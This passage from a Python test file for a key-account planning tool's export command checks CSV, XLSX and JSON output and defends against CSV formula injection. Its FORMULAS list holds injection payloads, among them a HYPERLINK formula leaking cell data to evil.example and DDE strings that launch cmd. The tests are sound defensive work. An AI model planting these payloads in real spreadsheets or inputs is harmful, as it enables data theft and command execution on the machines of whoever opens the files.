    rows = list(load_workbook(io.BytesIO(data))["Accounts"].iter_rows(values_only=True))
    column = rows[0].index("Industry")
    assert [row[column] for row in rows[1:]] == [None, None, None]


# --- the command line --------------------------------------------------------------------


def test_cli_export_csv_to_stdout(
    portfolio: Portfolio, monkeypatch: pytest.MonkeyPatch,
    capsysbinary: pytest.CaptureFixture[bytes],
) -> None:
    monkeypatch.chdir(ROOT)
    assert main(["export", "tests/fixtures/handworked", "--format", "csv",
                 "--as-of", "2026-11-23"]) == 0
    out = capsysbinary.readouterr().out
    assert out == export(portfolio, AS_OF, "csv")
    assert out.startswith(b"id,name,status,owner,")


def test_cli_xlsx_needs_out(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(ROOT)
    assert main(["export", "tests/fixtures/handworked", "--format", "xlsx",
                 "--as-of", "2026-11-23"]) == 2
    captured = capsys.readouterr()
    assert captured.err == ("kamgen: an XLSX export needs a file\n"
                            "    hint: add --out portfolio.xlsx\n")
    assert captured.out == ""


def test_cli_xlsx_to_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    assert main(["export", str(FIXTURE), "--format", "xlsx", "--out", "tmp/x.xlsx",
                 "--as-of", "2026-11-23"]) == 0
    target = tmp_path / "tmp" / "x.xlsx"
    assert target.is_file()
    rows = list(load_workbook(target)["Accounts"].iter_rows(values_only=True))
    assert [row[0] for row in rows[1:]] == ["alpha", "beta", "gamma"]
    captured = capsys.readouterr()
    assert captured.out == ""
    assert "wrote tmp/x.xlsx (3 accounts)" in captured.err


def test_cli_export_of_invalid_plans_exits_1(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    plans = tmp_path / "plans"
    shutil.copytree(FIXTURE, plans)
    team = plans / "team.yaml"
    team.write_text(team.read_text("utf-8").replace("visit_days: 100", "visit_days: many"),
                    "utf-8")
    out = tmp_path / "out.json"
    assert main(["export", str(plans), "--out", str(out), "--as-of", "2026-11-23"]) == 1
    captured = capsys.readouterr()
    assert "team.yaml:" in captured.err
    assert "visit_days" in captured.err
    assert "Traceback" not in captured.err
    assert not out.exists()


# --- spreadsheet cells: no formula from plan text (OWASP, CSV injection) -----------------

TEXT_FIELDS = {
    # (file, text in the fixture, the key and value to replace it with; {} is the text)
    "name": ("accounts/alpha.yaml", "name: Alpha Industries AG", "name: {}"),
    "industry": ("accounts/alpha.yaml", "industry: Chemicals", "industry: {}"),
    "tags": ("accounts/alpha.yaml", "tags: [chemicals]", "tags: [{}, plain]"),
    "objective": ("accounts/alpha.yaml", "objective: Grow share of wallet", "objective: {}"),
    "kpi": ("accounts/alpha.yaml", "kpi: Share of wallet", "kpi: {}"),
    "unit": ("accounts/alpha.yaml", 'unit: "%"', "unit: {}"),
    "value-add title": ("accounts/alpha.yaml", "title: Vendor managed inventory", "title: {}"),
    "action title": ("accounts/alpha.yaml", "{title: Pilot VMI,", "{{title: {},"),
    "competitor name": ("accounts/alpha.yaml", "name: Rivo AG", "name: {}"),
    "manager name": ("team.yaml", "name: Anna Adler", "name: {}"),
    "territory name": ("territories.yaml", "name: North", "name: {}"),
}


def _hostile_plans(tmp_path: Path, text: str) -> Path:
    """The hand-worked portfolio with ``text`` in every plan text that reaches a
    spreadsheet, and a negative margin for alpha's latest year."""
    plans = tmp_path / "plans"
    shutil.copytree(FIXTURE, plans)
    for file, old, new in TEXT_FIELDS.values():
        path = plans / file
        before = path.read_text("utf-8")
        assert old in before, old
        path.write_text(before.replace(old, new.format(json.dumps(text)), 1), "utf-8")
    alpha = plans / "accounts" / "alpha.yaml"
    alpha.write_text(alpha.read_text("utf-8").replace(
        "{year: 2026, revenue: 500000, margin: 20000}",
        "{year: 2026, revenue: 500000, margin: -20000}"), "utf-8")
    return plans


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_csv_neutralises_text_that_a_spreadsheet_would_run(tmp_path: Path, text: str) -> None:
    data = export(load_portfolio(_hostile_plans(tmp_path, text)), AS_OF, "csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    table = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert list(table) == ["alpha", "beta", "gamma"]
    alpha = table["alpha"]
    neutral = "'" + text.replace("\r", "\n")
    assert alpha["name"] == neutral
    assert alpha["industry"] == neutral
    for row in rows:
        for cell in row:
            assert _is_number(cell) or not cell.startswith(FORMULA_STARTS), cell
    # numbers stay numbers: the negative margin is not turned into text
    assert alpha["margin"] == "-20000.0"
    assert float(alpha["margin_rate"]) == approx(-0.04)


@pytest.mark.parametrize("text", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_xlsx_holds_no_formula_from_plan_text(tmp_path: Path, text: str) -> None:
    data = workbook(load_portfolio(_hostile_plans(tmp_path, text)), AS_OF)
    book = load_workbook(io.BytesIO(data))
    texts = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts += 1
                    assert not cell.value.startswith(FORMULA_STARTS), (sheet.title, cell.value)
    assert texts > 100
    neutral = "'" + text.replace("\r", "\n")

    def column(title: str, header: str) -> list[Any]:
        rows = list(book[title].iter_rows(values_only=True))
        index = rows[0].index(header)
        return [row[index] for row in rows[1:]]

    assert column("Accounts", "Account")[0] == neutral
    assert column("Accounts", "Industry")[0] == neutral
    assert neutral in column("Scorecard", "Objective")
    assert neutral in column("Scorecard", "KPI")
    assert neutral in column("Scorecard", "Unit")
    assert neutral in column("Value-add", "Concept")
    assert neutral in column("Managers", "Name")
    assert neutral in column("Territories", "Territory")
    # names given for ids: the owner, the competitor, the action and its owner
    assert column("Accounts", "Owner")[0] == neutral
    assert neutral in column("Relative quality", "Competitor")
    assert neutral in column("Actions", "Action")
    assert neutral in column("Actions", "Owner")
    # numbers stay numbers, the negative margin too
    sheet = book["Accounts"]
    margin = sheet.cell(row=2, column=[n for n, _ in ACCOUNT_COLUMNS].index("margin") + 1)
    assert (margin.value, margin.data_type) == (-20000, "n")
    scores = column("Accounts", "Customer rating (score)")
    assert scores[0] == approx(80.0)


def test_spreadsheet_cell_leaves_numbers_and_plain_text_alone() -> None:
    for value in (-20000, -0.04, 0, 1.5, None, True, "Alpha", "a=b", "'=quoted", "",
                  "Nord-West", "1-2"):
        assert spreadsheet_cell(value) == value
    assert [spreadsheet_cell(s) for s in ("=1", "+1", "-1", "@x", "\tx", "\rx")] == [
        "'=1", "'+1", "'-1", "'@x", "'\tx", "'\nx"]


def test_csv_keeps_a_carriage_return_inside_its_cell(tmp_path: Path) -> None:
    # The csv module quotes a field with "\n" but not one with a lone "\r": a reader would
    # start a new row at the "\r", and its first cell would be the formula.
    plans = _hostile_plans(tmp_path, "Chemicals\r=HYPERLINK(\"http://evil.example\")")
    data = export(load_portfolio(plans), AS_OF, "csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert [row[0] for row in rows] == ["id", "alpha", "beta", "gamma"]
    assert rows[1][1] == 'Chemicals\n=HYPERLINK("http://evil.example")'


def test_xlsx_takes_control_characters_from_yaml_escapes(tmp_path: Path) -> None:
    # "\x01" in a double-quoted YAML text is a control character an XLSX file cannot hold.
    # Fails while openpyxl raises IllegalCharacterError.
    plans = _hostile_plans(tmp_path, "\x01Alpha\x1f")
    book = load_workbook(io.BytesIO(workbook(load_portfolio(plans), AS_OF)))
    assert book["Accounts"]["B2"].value == "\ufffdAlpha\ufffd"


@pytest.mark.parametrize("day", [dt.date(1900, 1, 1), dt.date(1979, 12, 31),
                                 dt.date(2108, 1, 1), dt.date(2200, 12, 31)])
def test_xlsx_for_an_as_of_date_a_zip_cannot_hold(
    portfolio: Portfolio, day: dt.date, wall_clock: WallClock
) -> None:
    # Zip entries hold 1980 to 2107 only. Fails while ZipInfo raises for earlier dates and
    # struct.error for later ones.
    data = workbook(portfolio, day)
    assert workbook(portfolio, day) == data
    book = load_workbook(io.BytesIO(data))
    assert book.properties.created == dt.datetime(day.year, day.month, day.day)


# --- stable ids for programs ---------------------------------------------------------------

CSV_HEADER = (
    "id,name,status,owner,territory,industry,rating_score,rating_class,revenue_class,"
    "margin_class,disagreements,latest_year,revenue,margin,margin_rate,wallet,share_of_wallet,"
    "visits_per_year,cost_per_visit,visit_cost,revenue_per_visit,visit_cost_share,"
    "scorecard_score,network_coverage,network_support,network_findings,value_add_concepts,"
    "open_actions,overdue_actions,matrix_attractiveness,matrix_position,matrix_quadrant,"
    "reviewed,customer_number")
"""The CSV's header row as scripts read it: a column is only ever added, at the end."""


def test_the_csv_header_row_does_not_change(portfolio: Portfolio) -> None:
    first = export(portfolio, AS_OF, "csv").decode("utf-8").splitlines()[0]
    assert first == CSV_HEADER


def test_the_json_keys_do_not_change(document: dict[str, Any]) -> None:
    assert list(document) == ["kamgen_export", "as_of", "programme", "selection",
                              "territories", "managers", "accounts"]
    assert list(document["accounts"][0]) == [
        "id", "name", "status", "owner", "team", "territory", "industry", "tags", "reviewed",
        "file", "customer_number", "rating", "selection", "business", "share_of_wallet",
        "visits", "scorecard", "positioning", "value_add", "network", "actions", "checklists",
        "matrix"]
    # Values stay English ids, whatever the programme's language.
    german = portfolio_document(load_portfolio(ROOT / "plans"), AS_OF)
    brenntal = next(a for a in german["accounts"] if a["id"] == "brenntal-automotive")
    assert brenntal["status"] == "key_account"
    statuses = {o["status"] for p in brenntal["scorecard"]["perspectives"]
                for o in p["objectives"]}
    assert statuses <= {"green", "amber", "red", "no_data"}


def test_the_readme_documents_every_csv_column() -> None:
    readme = (ROOT / "README.md").read_text("utf-8")
    start = readme.index("| column | meaning |\n| --- | --- |\n")
    rows = readme[start:].split("\n\n", 1)[0].splitlines()[2:]
    assert [row.split("`")[1] for row in rows] == CSV_HEADER.split(",")
